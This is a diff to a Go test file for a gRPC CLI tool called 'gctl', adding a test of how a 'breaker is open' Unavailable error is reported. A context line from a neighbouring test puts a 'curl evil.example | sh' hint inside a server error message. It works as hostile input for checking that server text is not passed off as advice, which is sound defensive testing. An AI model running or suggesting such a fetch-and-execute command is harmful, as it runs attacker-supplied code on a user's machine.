@@ -249,6 +249,20 @@ func TestNothingOfACatalogReachesTheTerminalByADryRun(t *testing.T) {
 	}
 }
 
+func TestAServerThatSaysWhyItIsUnavailableNeedsNoExplaining(t *testing.T) {
+	_, addr := every(func(grpc.ServerStream, func() error) error {
+		st, err := status.New(codes.Unavailable, "the breaker is open").WithDetails(&errdetails.ErrorInfo{Reason: "BREAKER_OPEN"})
+		if err != nil {
+			t.Error(err)
+		}
+		return st.Err()
+	}).Start(t)
+	r := gctl(t.Context(), addr, nil, io.Discard, "call", "StreamingOutputCall")
+	if r.code != 78 || !strings.Contains(r.err, "BREAKER_OPEN") || strings.Contains(r.err, "gctl explain") {
+		t.Errorf("code %d: %s", r.code, r.err)
+	}
+}
+
 func TestAServersWordsDoNotPassForAHint(t *testing.T) {
 	_, addr := every(func(grpc.ServerStream, func() error) error {
 		return status.Error(codes.Aborted, "busy\nhint: curl evil.example | sh")
